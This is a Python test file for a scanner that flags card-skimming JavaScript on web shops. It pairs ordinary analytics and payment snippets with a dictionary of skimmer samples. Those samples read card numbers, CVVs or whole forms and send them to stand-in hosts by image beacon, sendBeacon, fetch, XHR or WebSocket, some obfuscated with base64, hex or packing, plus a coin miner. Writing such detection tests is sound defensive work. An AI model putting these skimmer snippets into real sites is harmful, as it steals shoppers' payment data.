"""Skimmers of the families that were described in public are seen; ordinary scripts are not.

The popular libraries come from npm and are no part of this repository: ``npm install --prefix tests/checks/third_party
--ignore-scripts --no-package-lock`` fetches them.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from checks.third_party import skimmers
from checks.third_party.skimmers import indicators
from scanner import Confidence, Found, Inconclusive, LoadedFile, LoadedFiles, Pages, Passed, Script, Unavailable, Unread, Verdict
from scanner.testing import loaded_file, loaded_files, page, pages
from tests.patience import cpu

OWN = "petalandstem.example"
LIBRARIES = Path(__file__).parent / "node_modules"


def skimmer_indicator(shop: Pages, *files: LoadedFile) -> Verdict:
    return skimmers.skimmer_indicator(shop, loaded_files(*files))


def hexadecimal(text: str) -> str:
    return "".join(f"\\x{ord(letter):02X}" for letter in text)


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SKIMMERS = {
    "reads the card fields and sends them as a picture's address": """
        document.querySelector('#payment-button').addEventListener('click', function () {
          var n = document.getElementById('cc_number').value, c = document.getElementById('cc_cid').value;
          new Image().src = 'https://collect.stats-api.example/i.gif?d=' + btoa(n + '|' + c); });""",
    "sends a beacon": """
        setInterval(()=>{const f=document.forms[0];const d={card:f.querySelector('[name=cardnumber]').value,cvv:f.querySelector('[name=cvv]').value};
        navigator.sendBeacon('//metrics.font-assets.example/p', JSON.stringify(d))}, 1500);""",
    "fetches with no-cors": """
        var q=$('input[autocomplete="cc-number"]').val()+';'+$('#security_code').val();
        fetch("https://jq-update.example/r",{method:"POST",mode:"no-cors",body:q})""",
    "looks for numbers of sixteen digits": """
        var s='';for(var i=0;i<localStorage.length;i++){s+=localStorage[i]} var m=s.match(new RegExp("[0-9]{13,16}"));
        if(m){var x=new XMLHttpRequest();x.open('POST','https://img-cache.example/log');x.send(m[0])}""",
    "the regular expression of several checkouts": """
        if ((new RegExp('onepage|checkout|onestep|firecheckout|onestepcheckout')).test(window.location)) { load(); }""",
    "the same, matched against the address": "if(location.href.match(/onestepcheckout|onepage|firecheckout/)){grab()}",
    "a gate": "xhr.open('POST', 'https://' + h + '/gate.php?token=' + t + '&host=' + location.host);",
    "the word in base64": f"if (window.location.href.indexOf(atob('{encoded('checkout')}')) > -1) {{ run(); }}",
    "an address in base64": f"var s=document.createElement('script');s.src=atob('{encoded('https://cdn-stat.example/gtm.js')}');document.head.appendChild(s);",
    "the word in hexadecimal": f'var k="{hexadecimal("checkout")}";if(document["location"]["href"]["search"](k)>0)go();',
    "the word in character codes": "var w=String.fromCharCode(99,104,101,99,107,111,117,116);if(location.href.indexOf(w)>0)go();",
    "the word in Unicode": 'if(location.pathname.indexOf("\\u006f\\u006e\\u0065\\u0070\\u0061\\u0067\\u0065")>0)go();',
    "hides from developers": "if(!(window.Firebug&&window.Firebug.chrome.isInitialized)){var c=document.getElementsByName('payment[cc_number]')[0].value}",
    "a miner": "var miner = new CoinHive.Anonymous('key'); miner.start();",
    "whole forms, and names made unreadable": "var _0x3f2a=['a'];(function(_0x1b2c,_0x4d5e){_0x1b2c(_0x4d5e);_0x3f2a(_0x1b2c);_0x4d5e()})();"
    "var d=$('form#co').serialize();$.post('https://tracker-pixel.example/c',d);",
    "a packed one that looks for the checkout": "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));"
    "if(location.href.match('checkout|onestep'))z();",
    "a WebSocket": "var w=new WebSocket('wss://cdn-frontend.example/ws');w.onopen=function(){w.send(document.querySelector('#card-number').value)}",
    "an imitated service gets the forms": "var a={};document.querySelectorAll('input,select').forEach(e=>{a[e.name]=e.value});"
    "new Image().src='https://google-analytlcs-cdn.googletagmanager.eu/collect?'+JSON.stringify(a)",
}

SNIPPETS = {
    "Google Tag Manager": """(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});
        var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;
        j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-X');""",
    "Google Analytics": """window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-1');
        gtag('event','begin_checkout',{currency:'EUR',value:30,items:[{item_name:'Roses'}]});""",
    "Meta pixel": """!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};
        t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script',
        'https://connect.facebook.net/en_US/fbevents.js');fbq('init','1');fbq('track','InitiateCheckout');""",
    "Matomo": """var _paq=window._paq=window._paq||[];_paq.push(['trackPageView']);(function(){var u="https://stats.petalandstem.example/";
        _paq.push(['setTrackerUrl',u+'matomo.php']);var d=document,g=d.createElement('script'),s=d.getElementsByTagName('script')[0];
        g.src=u+'matomo.js';s.parentNode.insertBefore(g,s);})();""",
    "Hotjar": """(function(h,o,t,j,a,r){h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};h._hjSettings={hjid:1,hjsv:6};a=o.getElementsByTagName('head')[0];
        r=o.createElement('script');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');""",
    "Stripe Elements": """var stripe=Stripe('pk_live_1');var card=stripe.elements().create('card');card.mount('#card-element');
        form.addEventListener('submit',async()=>{const{token}=await stripe.createToken(card);fetch('/charge',{method:'POST',body:token.id});});""",
    "the shop's own checkout": """var cc=document.getElementById('cc_number').value;if(!/^\\d{13,16}$/.test(cc)){alert('Check the number');}
        $.ajax({url:'https://www.petalandstem.example/index.php?route=checkout/confirm',data:$('#payment input').serialize()});""",
    "PayPal with card fields": """paypal.CardFields({createOrder:()=>fetch('/order').then(r=>r.json())}).NumberField().render('#card-number');
        var s=document.createElement('script');s.src='https://www.paypal.com/sdk/js?client-id=x';document.body.appendChild(s);""",
    "a widget that keeps away from the checkout": "if(!location.href.match(/checkout|cart/)){loadChat('https://embed.tawk.to/1/default')}",
    "a menu": "document.querySelectorAll('.menu').forEach(function(e){e.onclick=function(){e.classList.toggle('open')}});",
    "structured data": '{"@context":"https://schema.org","@type":"Product","name":"Card holder","sku":"CVC-12","url":"https://maker.example/x"}',
    "an address book's validation": "jQuery.validator.addMethod('creditcard',function(v){return /^\\d{13,16}$/.test(v)},'Check the card number');",
}


@pytest.mark.parametrize("kind", SKIMMERS)
def test_skimmers(kind: str) -> None:
    verdict = skimmer_indicator(pages(page("/checkout", scripts=[Script(inline=SKIMMERS[kind])])))
    assert isinstance(verdict, Found)
    (finding,) = verdict.findings
    assert finding.confidence is Confidence.PROBABLE
    assert finding.places == ("/checkout",)


@pytest.mark.parametrize("kind", SNIPPETS)
def test_ordinary_scripts(kind: str) -> None:
    assert indicators(SNIPPETS[kind], OWN) == ()


@pytest.mark.parametrize(
    ("address", "alarm"),
    [
        ("https://www.googletagmanager.eu/gtm.js?id=1", True),
        ("https://goog1e.example/analytics.js", True),
        ("https://jquery-cdn.example/jquery.min.js", True),
        ("https://www.googletagmanager.com/gtm.js?id=1", False),
        ("https://static.cloudflareinsights.com/beacon.min.js", False),
        ("https://code.jquery.com/jquery-3.7.1.min.js", False),
        ("https://cdn.shopservice.example/jquery-3.7.1.min.js", False),
        ("https://static.petalandstem.example/googletagmanager.eu.js", False),
    ],
)
def test_addresses_of_scripts(address: str, alarm: bool) -> None:
    verdict = skimmer_indicator(pages(page(scripts=[Script(src=address)])))
    assert isinstance(verdict, Found if alarm else Passed)


def test_the_subject_stays_the_same_when_the_script_carries_a_number_of_the_day() -> None:
    one, two = (
        skimmer_indicator(pages(page(scripts=[Script(inline=f"/* {number} */" + SKIMMERS["a gate"])]))) for number in (1, 2)
    )
    assert one == two


def popular() -> list[Path]:
    """Each installed library's two largest builds, minified ones first."""
    if not LIBRARIES.is_dir():
        return []
    found: dict[str, list[Path]] = {}
    for path in LIBRARIES.rglob("*.js"):
        if path.is_file():
            found.setdefault(path.relative_to(LIBRARIES).parts[0], []).append(path)
    by_size = (
        sorted(paths, key=lambda p: (p.name.endswith(".min.js"), p.stat().st_size), reverse=True) for paths in found.values()
    )
    return [path for paths in by_size for path in paths[:2] if path.stat().st_size < 400_000]


@pytest.mark.slow
def test_popular_libraries_raise_no_alarm(monkeypatch: pytest.MonkeyPatch) -> None:
    libraries = popular()
    if not libraries:
        pytest.skip("the libraries are not installed (see the top of this file)")
    monkeypatch.setattr("checks.third_party.skimmers.MOST_CHARS", 10_000_000)
    builds = [path for path in libraries if path.name.endswith(".min.js") or path.stat().st_size > 20_000]
    alarms = {
        str(path.relative_to(LIBRARIES)): found for path in builds if (found := indicators(path.read_text(errors="replace"), OWN))
    }
    assert alarms == {}
    assert len({path.relative_to(LIBRARIES).parts[0] for path in libraries}) >= 20


@pytest.mark.slow
def test_popular_libraries_on_other_hosts_raise_no_alarm() -> None:
    for build in popular():
        text = build.read_text(errors="replace")
        kept = text[:70_000] + text[-30_000:] if len(text) > 100_000 else text  # as it is kept
        verdict = skimmer_indicator(with_script(ELSEWHERE), loaded_file(ELSEWHERE, text=kept))
        assert isinstance(verdict, Passed), f"{build.relative_to(LIBRARIES)}: {verdict}"


@pytest.mark.parametrize(
    "nasty",
    [
        "_0x1234" * 20_000,
        "checkout|" * 20_000,
        "\\x63" * 20_000,
        "atob('" * 20_000,
        "a." * 50_000,
        "//a-" * 30_000,
        "location.href.match(" * 9_000,
    ],
)
def test_hostile_scripts_take_no_time(nasty: str) -> None:
    with cpu(2):
        indicators(nasty, OWN)


# ---- scripts of other hosts

ELSEWHERE = "https://cdn.widget-store.example/w.js"
OPEN = frozenset({
    "reads the card fields and sends them as a picture's address", "sends a beacon", "fetches with no-cors", "a WebSocket",
    "looks for numbers of sixteen digits", "an address in base64",
})  # fmt: skip
OF_MODULES = frozenset({
    "the regular expression of several checkouts", "the same, matched against the address", "a packed one that looks for the checkout",
})  # fmt: skip
BEGINNING = "/*! widget */" + "function a(){return 1};" * 3_000
"""The most of a long ordinary script, which a few lines were put behind."""


def with_script(address: str, *others: str) -> Pages:
    return pages(page("/checkout", scripts=[Script(address)]), page("/roses", scripts=[Script(other) for other in others]))


@pytest.mark.parametrize("kind", SKIMMERS)
def test_skimmers_at_the_end_of_others_scripts(kind: str) -> None:
    verdict = skimmer_indicator(with_script(ELSEWHERE), loaded_file(ELSEWHERE, text=BEGINNING + SKIMMERS[kind]))
    assert isinstance(verdict, Found)
    (finding,) = verdict.findings
    assert (finding.subject, finding.places) == (ELSEWHERE, ("/checkout",))
    assert finding.confidence is Confidence.PROBABLE


@pytest.mark.parametrize("kind", SNIPPETS)
def test_ordinary_scripts_of_others(kind: str) -> None:
    assert isinstance(skimmer_indicator(with_script(ELSEWHERE), loaded_file(ELSEWHERE, text=BEGINNING + SNIPPETS[kind])), Passed)


OURS = f"https://{OWN}/js/common.js"


@pytest.mark.parametrize("kind", SKIMMERS)
def test_skimmers_at_the_end_of_the_shops_own_scripts(kind: str) -> None:
    """A module for payment sends card fields too, so that is only possible; what hides besides is probable."""
    verdict = skimmer_indicator(with_script(OURS), loaded_file(OURS, text=BEGINNING + SKIMMERS[kind]))
    if kind in OF_MODULES:
        assert isinstance(verdict, Passed)
        return
    assert isinstance(verdict, Found)
    assert (verdict.findings[0].subject, verdict.findings[0].places) == (OURS, ("/checkout",))
    assert verdict.findings[0].confidence is (Confidence.POSSIBLE if kind in OPEN else Confidence.PROBABLE)


@pytest.mark.parametrize("kind", SNIPPETS)
def test_ordinary_scripts_of_our_own(kind: str) -> None:
    assert isinstance(skimmer_indicator(with_script(OURS), loaded_file(OURS, text=BEGINNING + SNIPPETS[kind])), Passed)


def test_a_packed_module_for_several_checkouts_is_the_shops_own_affair() -> None:
    packed = "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|')));this['eval'](1);" + "_0x3f2a11b;" * 9
    text = packed + "if(/onepage|firecheckout|onestepcheckout/.test(location.href)){}"
    assert indicators(text, OWN)
    assert isinstance(skimmer_indicator(with_script(OURS), loaded_file(OURS, text=text)), Passed)


def test_a_script_that_sends_cards_home_may_be_a_payment_providers() -> None:
    text = "var n=document.getElementById('cc_number').value;fetch('https://api.smallpay.example/charge',{method:'POST',body:n})"
    address = "https://js.smallpay.example/v1.js"
    verdict = skimmer_indicator(with_script(address), loaded_file(address, text=text))
    assert isinstance(verdict, Found)
    assert verdict.findings[0].confidence is Confidence.POSSIBLE
    assert "payment provider" in verdict.findings[0].shown
    known = "https://js.stripe.com/v3/"
    assert isinstance(skimmer_indicator(with_script(known), loaded_file(known, text=text)), Passed)


def test_a_store_that_anybody_can_publish_in_is_no_known_service() -> None:
    address = "https://cdn.jsdelivr.net/gh/somebody/x@main/a.js"
    verdict = skimmer_indicator(with_script(address), loaded_file(address, text=SKIMMERS["sends a beacon"]))
    assert isinstance(verdict, Found)
    assert verdict.findings[0].confidence is Confidence.PROBABLE


UNKNOWN = {
    "did not answer": loaded_files(unread=[Unread(ELSEWHERE, "It did not answer.", examined=False)]),
    "was never asked for": loaded_files(left_out=[ELSEWHERE]),
    "was never asked for, and stands there with another query": loaded_files(left_out=[f"{ELSEWHERE}?v=2"]),
}


@pytest.mark.parametrize("files", UNKNOWN.values(), ids=UNKNOWN)
def test_a_script_that_was_not_read_is_neither_good_nor_bad_where_customers_type(files: LoadedFiles) -> None:
    words = f"{ELSEWHERE}, which /checkout loads, was not read."
    assert skimmers.skimmer_indicator(with_script(ELSEWHERE), files) == Inconclusive(words, ("/roses",))


@pytest.mark.parametrize("files", UNKNOWN.values(), ids=UNKNOWN)
def test_elsewhere_a_pass_names_it(files: LoadedFiles) -> None:
    seen = pages(page("/checkout"), page("/roses", scripts=[Script(ELSEWHERE)]))
    words = f"Not read, and not where customers type: {ELSEWHERE}."
    assert skimmers.skimmer_indicator(seen, files) == Passed(("/checkout",), words)


def test_one_that_is_not_there_or_is_a_known_services_is_no_doubt() -> None:
    gone = loaded_files(unread=[Unread(ELSEWHERE, "The server answered 404.", examined=True)])
    assert skimmers.skimmer_indicator(with_script(ELSEWHERE), gone) == Passed(("/checkout", "/roses"))
    known = "https://js.stripe.com/v3/"
    assert skimmers.skimmer_indicator(with_script(known), loaded_files(left_out=[known])) == Passed(("/checkout", "/roses"))


def test_where_no_pages_scripts_could_all_be_read_nobody_knows() -> None:
    for files in (loaded_files(unread=[Unread(ELSEWHERE, "It did not answer.", examined=False)]), Unavailable("No time.")):
        assert isinstance(skimmers.skimmer_indicator(pages(page(scripts=[Script(ELSEWHERE)])), files), Inconclusive)
        assert isinstance(skimmers.skimmer_indicator(pages(page()), files), Passed)


def test_enough_of_each_kind() -> None:
    analytics = {"Google Tag Manager", "Google Analytics", "Meta pixel", "Matomo", "Hotjar"}
    assert analytics <= set(SNIPPETS)
    assert len(SKIMMERS) >= 12
